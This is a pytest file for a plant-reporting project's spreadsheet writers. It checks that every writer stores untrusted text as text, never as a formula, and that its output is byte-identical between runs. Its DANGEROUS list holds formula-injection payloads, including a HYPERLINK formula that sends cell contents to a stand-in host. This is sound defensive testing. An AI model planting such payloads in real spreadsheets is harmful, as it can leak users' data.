"""No data cell ever becomes a formula: every writer, every column, and the same bytes twice."""

from __future__ import annotations

import datetime as dt
import email
import io
import shutil
import zipfile
from email import policy

import numpy as np
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from xlsxwriter.worksheet import Worksheet

from pocmvp.case import factory, firefighting, report, water_line
from pocmvp.case import plant_workbook as workbook
from pocmvp.toolkit import cells, spreadsheet_engine

DANGEROUS = (
    '=HYPERLINK("http://x.example/?"&A2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)
"""Strings a spreadsheet would evaluate: each of OWASP's leading characters."""
MONTH = "2025-10"
FIXED = dt.datetime(2025, 1, 1)
TEXT_COLUMNS = ("part_id", "supplier", "alloy_lot", "mould_id", "cell")
"""The shift log's free-text columns (the shift is checked against the plant's shifts)."""


def _formula_cells(path):
    """(sheet, coordinate, value) of every formula cell in the workbook at ``path``."""
    book = load_workbook(path)
    found = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    book.close()
    return found


def _text_values(path, sheet_name):
    book = load_workbook(path)
    values = {
        cell.value
        for row in book[sheet_name].iter_rows(min_row=2)
        for cell in row
        if cell.data_type == "s"
    }
    book.close()
    return values


def _with_dangerous_text(frame: pd.DataFrame, columns) -> pd.DataFrame:
    """``frame`` with each dangerous string in each of ``columns``, one per row, cycling."""
    frame = frame.copy()
    frame = frame.astype({c: object for c in columns})
    for offset, column in enumerate(columns):
        for row in range(len(DANGEROUS)):
            frame.iat[(row + offset) % len(frame), frame.columns.get_loc(column)] = DANGEROUS[row]
    return frame


@pytest.fixture(scope="module")
def recalculated_text(rule_book, two_reports, write_back, tmp_path_factory):
    """The text cells of each writer's workbook after LibreOffice opened and recalculated
    it, all three in one LibreOffice run: writer -> set of texts (None without LibreOffice)."""
    books = {
        "rule": (rule_book, workbook.DATA_SHEET),
        "report": (two_reports[0].path("workbook"), workbook.DATA_SHEET),
        "write-back": (write_back[0], water_line.SHEET),
    }
    if not spreadsheet_engine.libreoffice_available():
        return dict.fromkeys(books)
    folder = tmp_path_factory.mktemp("recalculate")
    copies = []
    for name, (path, _) in books.items():  # one folder, so the names must differ
        copies.append(folder / f"{name}.xlsx")
        shutil.copyfile(path, copies[-1])
    out = spreadsheet_engine.recalculate_many(copies, folder / "recalculated")
    return {
        name: _text_values(done, sheet)
        for (name, (_, sheet)), done in zip(books.items(), out, strict=True)
    }


# --- The helper itself --------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
@pytest.mark.parametrize("number_format", [None, "0.0", "#,##0", "yyyy-mm-dd hh:mm"])
def test_a_string_is_text_in_any_column_of_both_kinds_of_workbook(text, number_format, tmp_path):
    with cells.NewWorkbook(tmp_path / "new.xlsx", dt.date(2025, 1, 1)) as new:
        sheet = new.add_sheet("s")
        new.write(sheet, 0, 0, text, number_format)
        put, values = new.column_writer(sheet, 0, pd.Series([text], dtype=object))
        put(1, values[0])
    normal = Workbook()
    cells.set_data_cell(normal.active.cell(1, 1), text, number_format)
    normal.save(tmp_path / "normal.xlsx")
    for name in ("new.xlsx", "normal.xlsx"):
        assert _formula_cells(tmp_path / name) == []
        for (cell,) in load_workbook(tmp_path / name).worksheets[0].iter_rows():
            assert (cell.data_type, cell.value) == ("s", cells.clean_text(text))


def test_a_new_workbook_keeps_each_kind_of_value(tmp_path):
    when = pd.Timestamp("2025-10-01 06:30")
    values = [1, np.int64(2), 2.5, np.float32(0.5), True, np.bool_(False), when, None, np.nan]
    values += [pd.NA, pd.NaT, "a\x01b", dt.date(2025, 1, 2), "", np.inf, -np.inf]
    column = pd.Series(values, dtype=object)
    with cells.NewWorkbook(tmp_path / "kinds.xlsx", dt.date(2025, 1, 1)) as new:
        sheet = new.add_sheet("s")
        new.formula(sheet, 0, 2, "=A1+1", "0.0")  # rows in order: row 1 (0) first
        put, converted = new.column_writer(sheet, 1, column)
        for row, (value, python) in enumerate(zip(values, converted, strict=True)):
            new.write(sheet, row, 0, value)
            put(row, python)
    sheet = load_workbook(tmp_path / "kinds.xlsx").worksheets[0]
    for by_cell, by_column in sheet.iter_rows(max_col=2):
        assert (by_cell.data_type, by_cell.value) == (by_column.data_type, by_column.value)
    got = [(c.data_type, c.value, c.number_format) for (c,) in sheet.iter_rows(max_col=1)]
    assert got == [
        ("n", 1, "General"),
        ("n", 2, "General"),
        ("n", 2.5, "General"),
        ("n", 0.5, "General"),
        ("b", True, "General"),
        ("b", False, "General"),
        ("d", when.to_pydatetime(), cells.DATE_FORMAT),
        *[("n", None, "General")] * 4,
        ("s", "a\ufffdb", "General"),
        ("d", dt.datetime(2025, 1, 2), "yyyy-mm-dd"),
        ("n", None, "General"),  # an empty string is an empty cell, as openpyxl writes it
        ("s", "inf", "General"),  # an infinite number is text, as with openpyxl
        ("s", "-inf", "General"),
    ]
    formula = sheet["C1"]
    assert (formula.data_type, formula.value, formula.number_format) == ("f", "=A1+1", "0.0")
    computed = load_workbook(tmp_path / "kinds.xlsx", data_only=True).worksheets[0]["C1"]
    assert computed.value is None  # no stored result: a spreadsheet computes it on opening


def test_formulas_are_written_without_xlsxwriters_rewriting():
    # The override of NewWorkbook's sheets saves most of the time a column of formulas takes;
    # if XlsxWriter renamed the method, it would silently do nothing.
    assert cells._Worksheet._prepare_formula is not Worksheet._prepare_formula
    assert cells._Worksheet()._prepare_formula("=OR(A2>1,B2<2)") == "OR(A2>1,B2<2)"


def test_a_new_workbook_is_not_written_when_writing_fails(tmp_path):
    with pytest.raises(RuntimeError), cells.NewWorkbook(tmp_path / "x.xlsx", FIXED) as new:
        new.write(new.add_sheet("s"), 0, 0, "started")
        raise RuntimeError("stopped half way")
    assert not (tmp_path / "x.xlsx").exists()


def test_values_keep_their_kind():
    book = Workbook()
    sheet = book.active
    when = pd.Timestamp("2025-10-01 06:30")
    values = [1, np.int64(2), 2.5, np.float32(0.5), True, np.bool_(False), when, None, np.nan]
    values += [pd.NA, pd.NaT, "a\x01b", dt.date(2025, 1, 2)]
    made = [cells.set_data_cell(sheet.cell(1, i + 1), v) for i, v in enumerate(values)]
    kinds = [c.data_type for c in made]
    assert kinds == ["n", "n", "n", "n", "b", "b", "d", "n", "n", "n", "n", "s", "d"]
    assert [c.value for c in made[7:11]] == [None] * 4
    assert made[6].value == when.to_pydatetime() and made[6].number_format == cells.DATE_FORMAT
    assert made[11].value == "a\ufffdb"
    aware = cells.cell_value(pd.Timestamp("2025-10-01 08:30", tz="Europe/Berlin"))
    assert aware == dt.datetime(2025, 10, 1, 6, 30)


def test_python_values_of_a_column_match_one_by_one():
    columns = [
        pd.Series([1, 2, None], dtype="Int64"),
        pd.Series([1.5, np.nan, 3.0]),
        pd.Series([True, False, True]),
        pd.Series(["=1", None, "x"], dtype=object),
        pd.Series(pd.to_datetime(["2025-01-01", None, "2025-01-03"])),
    ]
    for column in columns:
        assert cells.python_values(column) == [cells.cell_value(v) for v in column]


@pytest.mark.parametrize("text", [*DANGEROUS, "=1+1"])
def test_csv_safe_prefixes_a_quote_as_owasp_advises(text):
    assert cells.csv_safe(text) == "'" + text
    assert cells.csv_safe("Gießerei Süd") == "Gießerei Süd"
    assert cells.csv_safe(-2.5) == -2.5


def test_csv_safe_frame_neutralises_every_text_cell():
    frame = pd.DataFrame({"supplier": list(DANGEROUS), "value": range(len(DANGEROUS))})
    frame = _with_dangerous_text(frame, ["supplier"])
    written = io.StringIO(newline="")
    cells.write_csv(frame, written)
    back = pd.read_csv(io.StringIO(written.getvalue(), newline=""), keep_default_na=False)
    assert len(back) == len(frame)
    assert back["supplier"].tolist() == ["'" + t for t in DANGEROUS]
    assert back["value"].tolist() == list(range(len(DANGEROUS)))
    assert frame["supplier"].tolist() == list(DANGEROUS)  # the input is left alone


def test_too_many_rows_are_refused_naming_the_count_and_the_limit():
    assert cells.check_row_count(cells.EXCEL_MAX_ROWS - 1) == cells.EXCEL_MAX_ROWS - 1
    with pytest.raises(cells.TooManyRowsError, match=r"1,048,576 rows .*1,048,576 rows") as raised:
        cells.check_row_count(cells.EXCEL_MAX_ROWS, sheet="Shift log")
    assert isinstance(raised.value, ValueError) and "'Shift log'" in str(raised.value)


# --- Writer 1: the rule workbook (toolkit.workbook) ----------------------------------------


@pytest.fixture(scope="module")
def rule_book(log, versions, tmp_path_factory):
    rows = log.head(40).copy()
    rows = _with_dangerous_text(rows, list(TEXT_COLUMNS)).astype(log.dtypes.to_dict())
    folder = tmp_path_factory.mktemp("rule")
    return workbook.write_rule_workbook(rows, versions["v2"], folder / "rule.xlsx")


def test_rule_workbook_keeps_dangerous_text_as_text(rule_book, recalculated_text):
    path = rule_book
    data_formulas = [f for f in _formula_cells(path) if f[0] == workbook.DATA_SHEET]
    # The only formulas on the data sheet are the rule's own column.
    assert {c[1].rstrip("0123456789") for c in data_formulas} == {workbook.FLAG_COLUMN}
    texts = _text_values(path, workbook.DATA_SHEET)
    cleaned = {cells.clean_text(t) for t in DANGEROUS}
    assert cleaned <= texts
    if recalculated_text["rule"] is not None:
        assert cleaned <= recalculated_text["rule"]


def test_rule_workbook_refuses_text_in_a_number_column(log, versions, tmp_path):
    chosen = versions["v2"]
    rows = log.head(10).astype({chosen.columns[0]: object})
    rows.iat[0, rows.columns.get_loc(chosen.columns[0])] = DANGEROUS[0]
    with pytest.raises(ValueError, match=chosen.columns[0]):
        workbook.write_rule_workbook(rows, chosen, tmp_path / "rule.xlsx")
    assert not (tmp_path / "rule.xlsx").exists()


def test_rule_workbook_refuses_more_rows_than_a_sheet_before_writing(versions, tmp_path):
    # One narrow column is enough: the count is checked before validation and writing.
    huge = pd.DataFrame({"part_id": np.zeros(cells.EXCEL_MAX_ROWS, dtype=np.int8)})
    with pytest.raises(cells.TooManyRowsError, match="1,048,576 rows"):
        workbook.write_rule_workbook(huge, versions["v2"], tmp_path / "rule.xlsx")
    assert not (tmp_path / "rule.xlsx").exists()


def test_rule_workbook_is_byte_identical_run_to_run(log, versions, tmp_path):
    first = workbook.write_rule_workbook(log.head(300), versions["v2"], tmp_path / "a.xlsx")
    second = workbook.write_rule_workbook(log.head(300), versions["v2"], tmp_path / "b.xlsx")
    assert first.read_bytes() == second.read_bytes()
    properties = load_workbook(first).properties
    assert properties.creator == cells.CREATOR
    last_cast = log.head(300)["cast_at"].max().to_pydatetime()
    assert properties.created == properties.modified == last_cast  # not the clock
    stamps = {entry.date_time for entry in zipfile.ZipFile(first).infolist()}
    assert stamps == {cells.FIXED_ZIP_TIME}


# --- Writer 2: the monthly report (toolkit.report / toolkit.delivery) ----------------------


@pytest.fixture(scope="module")
def two_reports(log, versions, tmp_path_factory):
    month = factory.month_of(log) == MONTH
    rows = _with_dangerous_text(log[month], list(TEXT_COLUMNS))
    rows = pd.concat([log[~month], rows]).astype(log.dtypes.to_dict())
    folders = [tmp_path_factory.mktemp(name) for name in ("first", "second")]
    made = [report.run_report(rows, MONTH, versions["v2"], f, rule_version="v2") for f in folders]
    return made


def test_report_workbook_keeps_dangerous_text_as_text(two_reports, recalculated_text):
    path = two_reports[0].path("workbook")
    data_formulas = [f for f in _formula_cells(path) if f[0] == workbook.DATA_SHEET]
    assert {c[1].rstrip("0123456789") for c in data_formulas} == {workbook.FLAG_COLUMN}
    cleaned = {cells.clean_text(t) for t in DANGEROUS}
    assert cleaned <= _text_values(path, workbook.DATA_SHEET)
    if recalculated_text["report"] is not None:
        assert cleaned <= recalculated_text["report"]


def test_report_files_are_byte_identical_run_to_run(two_reports):
    first, second = two_reports
    for kind in ("workbook", "email", "chart", "figures"):
        assert first.path(kind).read_bytes() == second.path(kind).read_bytes(), kind


def test_report_email_has_a_fixed_date_id_and_boundaries(two_reports):
    path = two_reports[0].path("email")
    message = email.message_from_bytes(path.read_bytes(), policy=policy.default)
    assert message["Date"] == "Sat, 01 Nov 2025 06:00:00 +0000"
    assert message["Message-ID"].startswith(f"<report-{MONTH}-")
    assert message["Message-ID"].endswith("@plant.example>")
    boundaries = [p.get_boundary() for p in message.walk() if p.is_multipart()]
    assert boundaries and all(b.startswith("=_pocmvp-") for b in boundaries)
    attached = [p for p in message.iter_attachments() if p.get_filename()]
    assert attached[0].get_content() == two_reports[0].path("workbook").read_bytes()


# --- Writer 3: the shift leads' sheet (case.water_line) ------------------------------------


@pytest.fixture(scope="module")
def write_back(fast_plant, tmp_path_factory):
    """The shift leads' sheet written with dangerous text, then the same parts written again:
    (path, parts, live, day, first result, the bytes first written, second result)."""
    log = fast_plant.shift_log
    fire = firefighting.replay(log, factory.DEFAULT_SEED)
    live, day = fire.live_rule, fire.patch_day
    parts = log[log["cast_at"].dt.normalize() == day].head(20)
    # Every text column and every number column the live rule does not read (text in a
    # column it reads is a rejected row, tested in test_water_line).
    targets = [c for c in water_line.SHEET_COLUMNS if c not in ("part_id", "cast_at")]
    targets = [c for c in targets if c not in live.input_columns]
    assert any(pd.api.types.is_numeric_dtype(log[c]) for c in targets)
    parts = _with_dangerous_text(parts, targets)
    path = tmp_path_factory.mktemp("write-back") / "sheet.xlsx"
    result = water_line.write_flags_for_day(parts, live, day, path, rule_version="v1")
    written_once = path.read_bytes()
    again = water_line.write_flags_for_day(parts, live, day, path, rule_version="v1")
    return path, parts, live, day, result, written_once, again


def test_write_back_keeps_dangerous_text_as_text_in_every_column(
    write_back, recalculated_text, tmp_path
):
    path, parts, live, day, result, written_once, again = write_back
    assert result.added == len(parts) and result.accounted
    assert _formula_cells(path) == []
    cleaned = {cells.clean_text(t) for t in DANGEROUS}
    assert cleaned <= _text_values(path, water_line.SHEET)
    assert again.unchanged == len(parts)  # the text read back equals the text written
    copy = tmp_path / "copy.xlsx"
    water_line.write_flags_for_day(parts, live, day, copy, rule_version="v1")
    assert copy.read_bytes() == written_once
    if recalculated_text["write-back"] is not None:
        assert cleaned <= recalculated_text["write-back"]
